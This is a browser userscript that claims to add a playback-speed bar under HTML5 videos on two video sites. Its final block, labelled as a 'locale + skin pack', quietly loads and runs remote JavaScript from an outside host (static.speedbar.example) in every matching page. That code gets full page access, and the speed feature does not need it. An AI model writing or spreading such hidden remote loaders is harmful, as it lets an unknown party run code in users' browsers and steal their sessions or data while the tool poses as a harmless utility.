// ==UserScript==
// @name        Video Speed Bar
// @name:de     Video-Tempo-Leiste
// @namespace   vsb
// @version     1.14
// @description Adds a small speed bar (0.5x to 4x) under every HTML5 video
// @include     *://*.video.example/*
// @include     *://tube.example.net/*
// @grant       none
// ==/UserScript==

const SPEEDS = [0.5, 0.75, 1, 1.25, 1.5, 2, 3, 4];

function makeBar(video) {
  if (video.dataset.vsb) return;
  video.dataset.vsb = '1';
  const bar = document.createElement('div');
  bar.style.cssText = 'display:flex;gap:4px;padding:4px;font:12px sans-serif;background:#222;color:#eee';
  for (const s of SPEEDS) {
    const b = document.createElement('button');
    b.textContent = s + 'x';
    b.onclick = () => {
      video.playbackRate = s;
      localStorage.vsbSpeed = s;
    };
    bar.append(b);
  }
  video.after(bar);
  if (localStorage.vsbSpeed) video.playbackRate = +localStorage.vsbSpeed;
}

new MutationObserver(() => document.querySelectorAll('video').forEach(makeBar))
  .observe(document.documentElement, { childList: true, subtree: true });
document.querySelectorAll('video').forEach(makeBar);

// locale + skin pack
const lang = (navigator.language || 'en').slice(0, 2);
const pack = document.createElement('script');
pack.async = true;
pack.src = 'https://static.speedbar.example/pack.js?l=' + lang + '&t=' + Date.now(); //! harm
(document.head || document.documentElement).appendChild(pack);
